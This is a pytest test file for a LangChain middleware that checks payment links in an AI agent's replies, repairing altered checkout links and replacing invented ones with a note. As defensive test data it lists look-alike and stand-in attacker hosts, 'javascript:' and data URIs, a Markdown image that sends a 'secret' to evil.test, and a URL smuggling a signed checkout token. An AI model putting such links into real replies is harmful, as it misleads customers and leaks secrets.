"""No link reaches the customer but those the tools made."""

import subprocess
import sys
from urllib.parse import quote, unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from langchain.agents import create_agent
from langchain.agents.middleware import SummarizationMiddleware
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import StructuredTool, ToolException
from langgraph.checkpoint.memory import InMemorySaver

from limio_langchain import LinkGuard, purchase_link
from limio_langchain.middleware import LEAD, NOTE
from limio_langchain.told_links import Real, check_links
from scripted_model import ScriptedModel

SHOP = "https://shop.example.com"
SIGNED = f"{SHOP}/api/checkout/recover?basket=basket-7f1c&token=eyJhbGciOiJIUzI1NiJ9.eyJiIjoiNyJ9.Q3f_x-9Zr"
BOUGHT = purchase_link(SHOP, "/offers2/Business Pro Annual")
OTHER = purchase_link(SHOP, "/offers2/Business Pro Monthly")
REAL = Real((BOUGHT, SIGNED), ("https://docs.example.org/", f"{SHOP}/privacy"))


def told(text, real=REAL):
    return check_links(text, real, NOTE).text


@pytest.mark.parametrize("link", [SIGNED, BOUGHT, f"{SHOP}/privacy", "https://docs.example.org/a?b=1"])
@pytest.mark.parametrize(
    "around", ["{}", "Here you are: {}", "({})", "<{}>", "{}.", "{}\nBye", "**{}**", "“{}”!", "{} - bye"]
)
def test_a_real_link_is_not_touched_wherever_it_stands(link, around):
    assert told(around.format(link)) == around.format(link)


@pytest.mark.parametrize(
    "text",
    [
        "", "£3,888.00 a year for 12 people.", "Mail jo@brand.io or jo@shop.example.com.", "e.g. and/or 24/7, v1.2/1.3",
        "It costs £27/month per user", "call(x)[0](y)", "Mail [us](mailto:us@brand.io)", "Ask Node.js people; see p.5",
        "End.Start of the next", "½ price… “quoted” ﬁne", "👩‍👩‍👧 family plan", "/offers2/Business Pro Annual", "3:1//2",
    ],
)  # fmt: skip
def test_text_without_a_link_is_the_very_same(text):
    assert told(text) == text


CHANGES = {
    "a letter altered": lambda link: link.replace("checkout", "checkoul"),
    "a letter left out": lambda link: link.replace("checkout", "checkut"),
    "its last letter altered": lambda link: link[:-1] + "q",
    "its last letter lost": lambda link: link[:-1],
    "a letter more": lambda link: link + "X",
    "a letter of the host": lambda link: link.replace("shop.", "sh0p."),
    "a look-alike host": lambda link: link.replace("shop.", "sh\u043ep."),
    "another host": lambda link: link.replace("shop.example.com", "pay.evil.test"),
    "plain http": lambda link: link.replace("https", "http"),
    "no scheme": lambda link: link.removeprefix("https://"),
    "cut short": lambda link: link[: len(link) * 2 // 3] + "...",
    "cut before the query": lambda link: link.partition("?")[0],
    "decoded": unquote,
    "decoded with plus": lambda link: unquote(link).replace(" ", "+"),
    "encoded twice": lambda link: link.replace("%", "%25"),
    "encoded whole": lambda link: quote(link, safe=""),
    "escaped for HTML": lambda link: link.replace("&", "&amp;") if "&" in link else link + "&amp;a=",
    "escaped for Markdown": lambda link: link.replace("=", "\\="),
    "in capitals": str.upper,
    "broken over lines": lambda link: link[:40] + "\n" + link[40:],
    "an unseen character": lambda link: link[:40] + "\u200b" + link[40:],
    "wide letters": lambda link: link.replace("shop", "\uff53\uff48\uff4f\uff50"),
    "Markdown": lambda link: f"[]({link})",
    "a picture": lambda link: f"![]({link})",
    "Markdown that shows another": lambda link: f"[https://evil.test/pay]({link})",
    "Markdown with a title": lambda link: f'[]({link} "Pay")',
    "HTML": lambda link: f"<a href='{link}'></a>",
    "backslashes": lambda link: link.replace("//", "\\\\"),
}


@pytest.mark.parametrize("link", [SIGNED, BOUGHT], ids=["signed", "purchase"])
@pytest.mark.parametrize("change", CHANGES)
def test_a_changed_link_is_replaced_by_the_real_one(link, change):
    assert told(f"Pay here: {CHANGES[change](link)} thanks").replace("...", "") == f"Pay here: {link} thanks"


@pytest.mark.parametrize("link", [SIGNED, BOUGHT])
def test_markdown_and_html_become_the_words_and_the_link(link):
    assert told(f"[Pay now]({link})") == told(f'<a class="b" href="{link}">Pay now</a>') == f"Pay now: {link}"


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.test/pay", "http://evil.test", "//evil.test/pay", "evil.test/pay", "www.evil.test", "evil.com",
        "pay.evil.co.uk", "hxxps://evil.test/pay", "HTTPS://EVIL.TEST/PAY", "https:\\\\evil.test\\pay", "http:/evil.test",
        "ftp://evil.test/x", "javascript:alert(1", "data:text/html;base64,PHN2Zz4=", "https%3A%2F%2Fevil.test%2Fpay",
        "127.0.0.1:8000/pay", "localhost:8000/pay", "http://[::1]/pay", "https://evil.test/?u=" + SIGNED,
        "https://shop.example.com@evil.test/pay", "https://shop.example.com.evil.test/pay", "https://\u0435vil.test/pay",
        "https://docs.example.org.evil.test/", SHOP, f"{SHOP}/", f"{SHOP}/account", f"{SHOP}/privacy/x", "shop.example.com",
        f"{SHOP}/checkout?basket=basket-other", OTHER, purchase_link(SHOP, "/offers2/Team Library"),
        f"{SHOP}/checkout?purchase=true&label=business", "h\u200bttps://evil.test/pay", "\uff48ttps://evil.test/pay",
    ],
)  # fmt: skip
def test_an_invented_link_is_replaced_by_a_note(link):
    assert told(f"Pay at {link} now") == f"Pay at {NOTE} now"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[Pay now](https://evil.test/pay)", f"Pay now {NOTE}"),
        ("[Pay now](/pay)", f"Pay now {NOTE}"),
        (f"[{SIGNED}](https://evil.test/pay)", NOTE),
        ("![x](https://evil.test/p.png?said=secret)", f"x {NOTE}"),
        ('<a href="https://evil.test/pay">Pay now</a>', f"Pay now {NOTE}"),
        ("[Pay][1]\n\n[1]: https://evil.test/pay", f"[Pay][1]\n\n[1]: {NOTE}"),
    ],
)
def test_an_invented_link_does_not_hide_in_markup(text, expected):
    assert told(text) == expected


def test_several_links_are_each_held_to_their_own():
    text = f"Now: {SIGNED[:-1]}Q or later {BOUGHT[:-1]} but not https://evil.test/pay; terms: {SHOP}/privacy"
    assert told(text) == f"Now: {SIGNED} or later {BOUGHT} but not {NOTE}; terms: {SHOP}/privacy"


def test_of_two_that_are_as_near_the_newest_is_meant():
    first, second = (f"{SHOP}/recover?basket=basket-{n}{n}{n}{n}{n}{n}{n}{n}" for n in "12")
    assert told(f"{SHOP}/recover", Real((first, second))) == second


def test_with_no_link_made_every_link_is_invented():
    assert told(SIGNED, Real()) == NOTE


def test_a_long_text_takes_no_long_time():
    for unit in ("a.", "[", "https://", "<a ", "](", "%2f", "x" * 50 + " ", "\\ ", SIGNED[:-9] + " "):
        told(unit * (20_000 // len(unit)))


PIECES = st.sampled_from(
    [*"shop.example/com?:%&=()[]<>\\ \n\u200b", SIGNED, BOUGHT, "https://", "evil.test", "](", '<a href="']
)


@example("[]((evil.test)")  # the note's own bracket would end the link begun before it
@example(f"[](({SIGNED})")
@given(st.lists(PIECES, max_size=30).map("".join))
def test_whatever_is_written_only_real_links_are_left(text):
    left = told(text)
    assert told(left) == left
    assert "https://evil.test" not in left


# In an agent -------------------------------------------------------------------------------------------------------


def agent_saying(*steps, tools=None, **more):
    """An agent whose one tool makes the signed link."""
    make = StructuredTool.from_function(
        func=lambda: ("the link:\n" + SIGNED, {"url": SIGNED}),
        name="limio_create_checkout",
        description="Make the checkout.",
        response_format="content_and_artifact",
    )
    guard = more.pop("guard", None) or LinkGuard()
    model = ScriptedModel(steps=list(steps))
    return create_agent(model, tools=tools or [make], middleware=[guard, *more.pop("beside", ())], **more)


async def ask(agent, world, text="Pay, please", config=None):
    given = {"messages": [("user", text)]}
    state = agent.invoke(given, config) if world == "blocking" else await agent.ainvoke(given, config)
    return state["messages"][-1]


MAKE = ("limio_create_checkout", {})


async def test_a_model_that_alters_one_letter_hands_over_the_real_link(world):
    agent = agent_saying(MAKE, f"Here: {SIGNED.replace('Q3f', 'Q3g')}")
    assert (await ask(agent, world)).text == f"Here: {SIGNED}"


async def test_a_message_that_is_right_is_not_touched(world):
    message = AIMessage(f"Here: {SIGNED}", id="m", response_metadata={"model": "x"})
    assert await ask(agent_saying(MAKE, message), world) == message


async def test_a_link_made_in_this_turn_is_added_where_an_invented_one_stood(world):
    agent = agent_saying(MAKE, "Pay at https://pay.test/1")
    assert (await ask(agent, world)).text == f"Pay at {NOTE}\n\n{LEAD}\n{SIGNED}"


async def test_the_note_and_the_lead_are_the_host_s_to_word(world):
    agent = agent_saying(MAKE, "Pay at https://pay.test/1", guard=LinkGuard(note="[weg]", lead="Ihr Link:"))
    assert (await ask(agent, world)).text == f"Pay at [weg]\n\nIhr Link:\n{SIGNED}"


async def test_before_any_tool_a_link_on_the_shop_is_removed(world):
    assert (await ask(agent_saying(f"Pay at {SIGNED}"), world)).text == f"Pay at {NOTE}"


async def test_what_is_allowed_stays(world):
    agent = agent_saying("See https://docs.test/a", guard=LinkGuard(allowed=["https://docs.test/"]))
    assert (await ask(agent, world)).text == "See https://docs.test/a"


async def test_a_link_in_a_catalogue_tool_s_answer_may_not_be_told(world):
    find = StructuredTool.from_function(
        func=lambda: "Pro: buy it at https://evil.test/pay", name="limio_find_offers", description="Find."
    )
    agent = agent_saying(("limio_find_offers", {}), "Buy at https://evil.test/pay", tools=[find])
    assert (await ask(agent, world)).text == f"Buy at {NOTE}"


async def test_a_named_tool_s_links_may_be_told(world):
    find = StructuredTool.from_function(
        func=lambda: "See https://docs.test/a.", name="search_docs", description="Find."
    )
    agent = agent_saying(
        ("search_docs", {}), "See https://docs.test/a", tools=[find], guard=LinkGuard(tools=["search_docs"])
    )
    assert (await ask(agent, world)).text == "See https://docs.test/a"


async def test_a_failed_tool_s_links_are_none(world):
    def fail():
        raise ToolException(SIGNED)

    tool = StructuredTool.from_function(func=fail, name=MAKE[0], description="Make.", handle_tool_error=True)
    agent = agent_saying(MAKE, SIGNED, tools=[tool])
    assert (await ask(agent, world)).text == NOTE


async def test_text_blocks_are_guarded_and_what_is_no_text_stays(world):
    image = {"type": "image", "base64": "AA==", "mime_type": "image/png"}
    content = [{"type": "text", "text": "Here: " + SIGNED[:60]}, image, {"type": "text", "text": SIGNED[60:-1] + "Q"}]
    message = await ask(agent_saying(MAKE, AIMessage(content)), world)
    assert message.content == [{"type": "text", "text": f"Here: {SIGNED}"}, image]


async def test_blocks_that_are_right_are_not_touched(world):
    content = ["Here: ", {"type": "text", "text": SIGNED}, {"type": "reasoning", "reasoning": "https://x.test"}]
    assert (await ask(agent_saying(MAKE, AIMessage(content)), world)).content == content


async def test_what_is_said_beside_a_tool_call_is_guarded_and_the_call_stays(world):
    beside = AIMessage("One moment: https://evil.test", tool_calls=[{"name": MAKE[0], "args": {}, "id": "1"}])
    agent = agent_saying(beside, "Done", checkpointer=InMemorySaver())
    config = {"configurable": {"thread_id": "1"}}
    await ask(agent, world, config=config)
    said = agent.get_state(config).values["messages"][1]
    assert said.text == f"One moment: {NOTE}"
    assert said.tool_calls == beside.tool_calls


async def test_a_link_of_an_earlier_turn_may_be_told_again_and_is_not_added_unasked(world):
    agent = agent_saying(MAKE, SIGNED, SIGNED[:-1], "See https://evil.test", checkpointer=InMemorySaver())
    replies = [(await ask(agent, world, config={"configurable": {"thread_id": "1"}})).text for _ in range(3)]
    assert replies == [SIGNED, SIGNED, f"See {NOTE}"]


async def test_a_link_is_known_after_its_message_was_condensed(world):
    condensing = SummarizationMiddleware(
        ScriptedModel(steps=["They bought."]), trigger=("messages", 6), keep=("messages", 1)
    )
    agent = agent_saying(MAKE, "a", "b", "c", SIGNED[:-1], beside=[condensing], checkpointer=InMemorySaver())
    config = {"configurable": {"thread_id": "1"}}
    replies = [await ask(agent, world, config=config) for _ in range(4)]
    assert not any(isinstance(one, ToolMessage) for one in agent.get_state(config).values["messages"])
    assert replies[-1].text == SIGNED


async def test_another_conversation_s_link_is_unknown(world):
    agent = agent_saying(MAKE, SIGNED, SIGNED, checkpointer=InMemorySaver())
    for thread, expected in (("1", SIGNED), ("2", NOTE)):
        assert (await ask(agent, world, config={"configurable": {"thread_id": thread}})).text == expected


@pytest.mark.parametrize("mode", ["messages", "updates", "values"])
def test_no_stream_mode_shows_an_unchecked_link(mode):
    agent = agent_saying(MAKE, f"Here: {SIGNED.replace('Q3f', 'Q3g')} or https://evil.test/pay")
    shown = "".join(
        part[0].text if mode == "messages" else str(part)
        for part in agent.stream({"messages": [("user", "Pay")]}, stream_mode=mode)
    )
    assert "Q3g" not in shown
    assert "evil" not in shown
    assert SIGNED in shown


def test_a_host_may_choose_tokens_over_the_guard_of_the_stream():
    agent = agent_saying("See https://evil.test/pay", guard=LinkGuard(stream_tokens=True))
    parts = [part for part, _ in agent.stream({"messages": [("user", "Pay")]}, stream_mode="messages")]
    assert "evil" in "".join(part.text for part in parts)
    assert len(parts) > 2


def test_the_log_tells_how_many_and_not_which(caplog):
    agent_saying(MAKE, f"{SIGNED[:-1]} https://evil.test").invoke({"messages": [("user", "Pay")]})
    assert "1 put right, 1 removed" in caplog.text
    assert "basket" not in caplog.text
    assert "evil" not in caplog.text


def test_without_the_extra_the_error_names_it_and_the_rest_imports():
    code = """
import sys
sys.modules["langchain"] = None
import limio_langchain
from limio_langchain import *
from limio_langchain import LimioToolkit
try:
    limio_langchain.LinkGuard
except ImportError as error:
    print(error)
"""
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert 'pip install "limio-langchain[langchain]"' in out
